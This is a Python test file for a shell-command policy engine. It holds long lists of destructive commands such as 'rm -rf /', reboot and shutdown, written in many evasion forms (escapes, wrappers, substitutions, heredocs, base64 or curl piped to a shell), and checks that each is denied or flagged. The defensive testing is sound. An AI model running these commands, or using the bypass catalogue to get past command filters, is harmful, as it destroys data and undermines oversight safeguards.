"""Every bypass family of issue 10 against the demo rules: each is denied or flagged unresolved,
and commands that merely mention a dangerous word are allowed."""

from __future__ import annotations

import time

import pytest
from commands_support import SCOPE, check, demo_policy

from bastion.policy.commands import Verdict, normalize_line

DENIED = [
    # the plain forms
    "rm -rf /",
    "rm -r -f /",
    "rm -fr /",
    "rm -Rf /",
    "rm --recursive --force /",
    "rm --rec --forc /",  # GNU getopt accepts unambiguous prefixes
    "rm / -rf",  # GNU tools take options after operands
    "shutdown -h now",
    "reboot",
    "halt -p",
    "poweroff",
    "systemctl poweroff",
    "systemctl --no-block reboot",
    "systemctl isolate reboot.target",
    "init 0",
    "telinit 6",
    # quoting and escaping
    "r''m -rf /",
    'r""m -rf /',
    "'rm' -rf /",
    '"rm" "-rf" /',
    "\\rm -rf /",
    "r\\m -rf /",
    "$'\\x72\\x6d' -rf /",
    "$'\\162\\155' -rf /",
    "$'\\u0072m' -rf /",
    '$"rm" -rf /',
    "rm -r''f /",
    "rm -\\r\\f /",
    # paths
    "/bin/rm -rf /",
    "/usr/sbin/./shutdown now",
    "/usr/sbin/../sbin/reboot",
    "./../../sbin/halt",
    # wrappers
    "sudo -u root env X=1 nice rm -fr /",
    "sudo -E -H -- rm -rf /",
    "sudo --user=root rm -rf /",
    "env -i PATH=/bin rm -rf /",
    "env -S 'rm -rf' /",
    "nohup reboot",
    "timeout 5 shutdown now",
    "timeout -s KILL 10s reboot",
    "command rm -rf /",
    "exec reboot",
    "nice -n 10 reboot",
    "nice -10 reboot",
    "ionice -c3 rm -rf /",
    "time rm -rf /",
    "time -p reboot",
    "stdbuf -oL reboot",
    "setsid reboot",
    "chroot / reboot",
    "chroot --userspec=root / rm -rf /",
    "busybox reboot",
    "busybox rm -rf /",
    "doas reboot",
    "unbuffer reboot",
    "flock /tmp/lock reboot",
    "flock /tmp/lock -c 'reboot'",
    "watch reboot",
    "watch -n 1 'rm -rf /tmp/x'",
    "su -c reboot",
    "su - root -c 'rm -rf /'",
    "su root --command='shutdown now'",
    "sudo -s reboot",
    "sudo sh -c 'reboot'",
    "xargs rm -rf",
    "find / -exec rm -rf {} +",
    "find / -name x -execdir reboot \\;",
    "builtin eval reboot",
    "ssh otherhost reboot",
    "strace -f reboot",
    "exec -a foo rm -rf /",
    "command -p rm -rf /",
    "nice -n10 rm -rf /",
    "env --split-string='rm -rf /'",
    "xargs -I{} rm -rf {}",
    "xargs -0 -n1 rm -rf",
    "rm\t-rf\t/",
    "coproc reboot",
    "pkexec reboot",
    "screen -dmS x reboot",
    "sudo -- sh -c reboot",
    "timeout --signal=KILL 5 reboot",
    # shells and program texts
    "bash -c 'rm -rf /'",
    "sh -c reboot",
    "dash -c 'shutdown now'",
    "zsh -c 'reboot'",
    "bash -lc 'reboot'",
    "bash -x -c 'reboot' name",
    "bash -c 'bash -c \"rm -rf /\"'",
    'eval "rm -rf /"',
    "eval -- reboot",
    "eval rm -rf /",
    "eval 'r''m -rf /'",
    "bash <<< 'reboot'",
    "sh <<< \"rm -rf /\"",
    "bash <<EOF\nreboot\nEOF",
    "bash <<'EOF'\nrm -rf /\nEOF",
    "alias ll='rm -rf /'",
    "trap 'reboot' EXIT",
    "trap -- 'reboot' EXIT",
    "hash -p /sbin/reboot ls",
    "trap -p -- 'rm -rf /' INT",
    "PROMPT_COMMAND='reboot'",
    # splitting
    "ls; reboot",
    "ls && reboot",
    "false || reboot",
    "ls | reboot",
    "reboot &",
    "ls\nreboot",
    "ls\n\nrm -rf /",
    "{ rm -rf /; }",
    "(reboot)",
    "( ( reboot ) )",
    "x=$(reboot)",
    "echo `reboot`",
    "echo \"$(reboot)\"",
    "echo ${x:-$(reboot)}",
    "echo $((1 + $(reboot)))",
    "cat <(shutdown now)",
    "tee >(reboot)",
    "if true; then reboot; fi",
    "while true; do reboot; done",
    "for i in 1; do rm -rf /; done",
    "case x in x) reboot;; esac",
    "f() { reboot; }; f",
    "! reboot",
    "! { reboot; }",
    "! if true; then $'\\162\\155' --rec $'\\055\\146' x; fi",  # found by bash fuzzing
    "! while true; do reboot; done",
    "! until false; do reboot; done",
    "time { reboot; }",
    "time (reboot)",
    "coproc x { reboot; }",
    "coproc (reboot)",
    "function f { reboot; }",
    "until reboot; do :; done",
    "select x in a; do reboot; done",
    "reboot|&cat",
    ">out reboot",
    "a=($(reboot))",
    "case $(reboot) in *) ;; esac",
    "for x in $(reboot); do :; done",
    "cat <<< $(reboot)",
    "while read l; do reboot; done < f",
    "exec 3< <(reboot)",
    "sudo -iu root reboot",
    "[[ $(reboot) ]]",
    "export X=$(reboot)",
    "cat <<EOF\n$(reboot)\nEOF",
    # line continuation
    "rm -r\\\n -f /",
    "r\\\nm -rf /",
    "reb\\\noot",
    # brace expansion
    "/sbin/{reboot,x}",
    "r{m,} -rf /",
    "rm -{r,f} /",
    # an explicit fd 0 (tree-sitter reads the 0 as an argument); the last stdin redirect wins
    "bash 0<<<reboot",
    "0<<<'reboot' bash",
    "<<<'reboot' 0<&0 bash",
    "sh 0<<<reboot",
    "bash <<<ls <<<'reboot'",
    "bash <<<reboot 2>&1",
    # words after a redirect target are arguments (tree-sitter reads them as more targets)
    "sudo >/dev/null reboot",
    "rm >x -rf /",
    "exec >x reboot",
    # other spellings of standard input
    "bash /dev/./stdin <<<'reboot'",
    "bash //dev/stdin <<<'reboot'",
    "bash /dev//stdin <<<reboot",
    "bash /dev/fd/./0 <<<reboot",
    "bash /proc/self/fd/0 <<<reboot",
    "source /dev/./stdin <<<'reboot'",
    # backquotes inside ${...} and in heredoc bodies
    "echo ${x:-`reboot`}",
    "x=${y:-`rm -rf /`}",
    ": ${x:+`reboot`}",
    "echo ${x/a/`reboot`}",
    "echo \"${x/a/`reboot`}\"",
    "case ${x:-`reboot`} in *) ;; esac",
    "cat <<EOF\n${x:-`reboot`}\nEOF",
    "cat <<EOF\n`reboot`\nEOF",
    "echo ${x:-`echo \\`reboot\\``}",
    # exec with stdin redirected: the shell reads its next commands from there
    "exec <<< reboot",
    "exec 0<<<\"rm -rf /\"",
    # prompt strings are expanded before each prompt
    "PS0='$(reboot)'",
    "PS1='$(reboot)'",
    "PS2='`reboot`'",
    "PS4='$(reboot)'",
    "export PS1='$(reboot)'",
    "declare PS0='$(reboot)'",
    "declare 'PS1=$(reboot)'",
    # wrapper options read with their real syntax
    "xargs -i rm -rf /",
    "xargs -l rm -rf /",
    "xargs -e rm -rf /",
    "xargs -i{} rm -rf {}",
    "env --default-signal rm -rf /",
    "env --ignore-signal rm -rf /",
    "env --block-signal rm -rf /",
    "env --default-signal=INT rm -rf /",
    "env - rm -rf /",
    "flock -o /tmp/lock reboot",
    "watch -g reboot",
    "watch -d reboot",
    "unshare -w / reboot",
    "unshare -R / reboot",
    "unshare -S 0 reboot",
    "script -q /dev/null -c reboot",
    "strace -a 10 reboot",
    "nsenter -t 1 -m reboot",
    "runuser -l root -c reboot",
    "runuser root -c reboot",
    "runuser -u root -- reboot",
    "su -- root -c reboot",
    "ssh -- host reboot",
    "ssh -o RemoteCommand=reboot host",
    "ssh -o 'ProxyCommand reboot' host",
    "ltrace -S reboot",
    "systemd-run -H host reboot",
    "systemd-run --nice 5 reboot",
    "doas -a x reboot",
    "screen -L reboot",
    "chrt --sched-runtime 1 0 reboot",
    "timeout -- 5 reboot",
    # hash -p binds a name to a program
    "hash -p /bin/rm x; x -rf /",
]

UNRESOLVED = [
    "$(echo rm) -rf /",
    "`echo rm` -rf /",
    "$cmd -rf /",
    "${CMD} now",
    '"$x" -rf /',
    "r$x -rf /",
    "/usr/bin/r? -rf /",
    "/sbin/reb*",
    "echo cm0gLXJmIC8= | base64 -d | bash",
    "curl -s http://example.com/x | sh",
    "curl x | sudo bash",
    "bash < script.sh",
    "sh -s < x",
    "cat x | python3",
    "bash -c \"$payload\"",
    'eval "$x"',
    "source <(curl x)",
    ". <(echo reboot)",
    "source -- <(echo reboot)",
    "bash <(curl x)",
    "rm $opts /",
    "o=-rf; rm $o /",
    "echo -rf / | xargs rm",
    "systemctl $action nginx",
    "rm *",  # a file named -rf would be an option
    # stdin from a file, a pipe or another fd, spelled with an explicit 0
    "bash 0< <(echo reboot)",
    "bash 0<script",
    "bash 0<&3",
    "bash <<<ls < file",
    "x=1 0<y bash",
    "exec < file",
    # history expansion (interactive lines only): !!, !:1, ^old^new
    "echo reboot\n^echo ^",
    "echo reboot\n!:1",
    "^echo ^",
    "!!",
    "!-1",
    "echo \"!:1\"",
    # quoted text bash evaluates as arithmetic or a subscript, where $(...) runs
    "let 'a[$(reboot)]'",
    "[[ 'a[$(reboot)]' -eq 0 ]]",
    "[[ -v 'a[$(reboot)]' ]]",
    "test -v 'a[$(reboot)]'",
    "[ -v 'a[$(reboot)]' ]",
    "printf -v 'a[$(reboot)]' x",
    "read 'a[$(reboot)]' <<< 1",
    "unset 'a[$(reboot)]'",
    "declare 'a[$(rm -rf /)]=1'",
    "declare -i x='a[$(reboot)]'",
    "declare -a A='([$(reboot)]=1)'",
    "x='a[$(reboot)]'; ((x))",
    "echo $(( 'a[$(reboot)]' ))",
    "a=1; echo ${a['$(reboot)']}",
    "(( 'a[`reboot`]' ))",
    # xargs appends words read at run time to a command that runs its words
    "echo reboot | xargs sh -c",
    "echo reboot | xargs -I% bash -c %",
    "echo reboot | xargs env",
    "echo reboot | xargs timeout 5",
    "xargs nice <<<'reboot'",
    "echo reboot | xargs eval",
    # an option a wrapper does not have: not guessed
    "sudo --no-such-option reboot2",
    "nohup -z ls",
    # extglob patterns are globs
    "/sbin/reboo@(t)",
    # a file a shell runs at start
    "BASH_ENV=<(echo reboot) bash -c :",
    "ENV=<(echo reboot) sh -c :",
    "env BASH_ENV=/tmp/x bash -c :",
    "export BASH_ENV=/tmp/x",
    # a prompt string whose value is not known
    "PS1=$x",
    "PS1=\"$(cat /tmp/p)\"",
]

ALLOWED = [
    "ls",
    "ls -la /tmp",
    "echo rm -rf /",
    "echo 'rm -rf /'",
    "printf '%s\\n' reboot",
    "grep shutdown log",
    "grep -r 'rm -rf' .",
    "man reboot",
    "cat /var/log/reboot.log",
    "rm -r dir",
    "rm -f file",
    "rm -- -rf",
    "rm -i -r dir",
    "systemctl status nginx",
    "systemctl start nginx",
    "journalctl -u reboot.target",
    "command -v reboot",
    "type reboot",
    "which shutdown",
    "echo {1..3}",
    "git commit -m 'rm -rf everything'",
    "bash script.sh",
    "python3 -c 'print(1)'",
    "vim /etc/hosts",
    "",
    "# rm -rf /",
    "x=1",
    "echo hi!",
    "echo 'a!b'",
    "[[ $a != b ]] && echo ok",
    "echo $!",
    "export PS1='\\u@\\h \\w\\$ '",
    "declare -a arr=(1 2 3)",
    "[[ -n $(date) ]]",
    "for ((i=0;i<3;i++)); do echo $i; done",
    "printf -v x %s y",
    "echo ${x:-default}",
    "cat <<'EOF'\n`reboot`\nEOF",
    "psql -c 'select 1' >/dev/null",
    "env -i PATH=/bin ls",
    "watch -n 2 df -h",
    "ssh -o StrictHostKeyChecking=no host ls",
    "runuser -u www -- ls",
    "echo x | xargs -n1 echo",
]


@pytest.mark.parametrize("line", DENIED)
def test_bypass_is_denied(line: str) -> None:
    decision = check(line)
    assert decision.verdict is Verdict.DENY, (line, decision)
    assert decision.rule is not None
    assert not decision.unparseable


# tree-sitter-bash does not accept a brace expression in command position: such a line is
# unparseable, which gets the strictest action in scope (deny here).
UNPARSEABLE = ["time { { reboot now; }; }",  # tree-sitter reads "{ {" as one word
               "{reboot,x}", "{rm,-rf,/}", "echo {a,b}; {reboot,x}", "rm -rf / )",
               "/sbin/re+(b)oot"]  # an extglob tree-sitter cannot read


@pytest.mark.parametrize("line", UNPARSEABLE)
def test_unparseable_bypass_is_denied(line: str) -> None:
    decision = check(line)
    assert decision.unparseable
    assert decision.verdict is Verdict.DENY, (line, decision)


@pytest.mark.parametrize("line", UNRESOLVED)
def test_unknowable_command_is_unresolved(line: str) -> None:
    decision = check(line)
    assert decision.unresolved, (line, decision)
    assert decision.verdict is Verdict.APPROVE, (line, decision)  # the demo's unresolved


@pytest.mark.parametrize("line", ALLOWED)
def test_harmless_mention_is_allowed(line: str) -> None:
    decision = check(line)
    assert decision.verdict is Verdict.ALLOW, (line, decision)
    assert decision.message == ""


def test_approval_and_warning_rules() -> None:
    assert check("systemctl restart nginx").verdict is Verdict.APPROVE
    assert check("sudo systemctl stop nginx").verdict is Verdict.APPROVE
    decision = check("sudo ls")
    assert decision.verdict is Verdict.WARN
    assert decision.rule == "warn-sudo"


def test_unparseable_line_gets_strictest_rule_action() -> None:
    decision = check('echo "never closed')
    assert decision.unparseable
    assert decision.verdict is Verdict.DENY
    assert "cannot be checked" in decision.message


def test_unresolved_policy_is_applied_per_setting() -> None:
    assert check("$x -rf /", demo_policy("deny")).verdict is Verdict.DENY
    assert check("$x -rf /", demo_policy("warn")).verdict is Verdict.WARN
    assert check("$x -rf /", demo_policy(None)).verdict is Verdict.DENY  # the default


def test_wrapped_command_is_reported_with_its_wrappers() -> None:
    commands = normalize_line("sudo -u root env X=1 nice rm -fr /").commands
    assert [c.name for c in commands] == ["sudo", "env", "nice", "rm"]
    rm = commands[-1]
    assert rm.options == ("-f", "-r")
    assert rm.operands == ("/",)
    assert rm.via == ("sudo", "env", "nice")
    assert rm.text == "rm -fr /"


def test_history_expansion_only_for_interactive_lines() -> None:
    policy = demo_policy()
    assert policy.evaluate("!!", SCOPE).unresolved
    exec_decision = policy.evaluate_exec("!!", SCOPE)  # exec requests are not history-expanded
    assert not exec_decision.unresolved
    assert exec_decision.verdict is Verdict.ALLOW


def test_nested_find_exec_is_bounded() -> None:
    for line in ("find -exec sudo " * 1020, "find -ok " * 1770):
        started = time.perf_counter()
        decision = check(line[:16384])
        assert decision.unparseable  # the word bound stops it (no quadratic re-scan)
        assert time.perf_counter() - started < 1.5
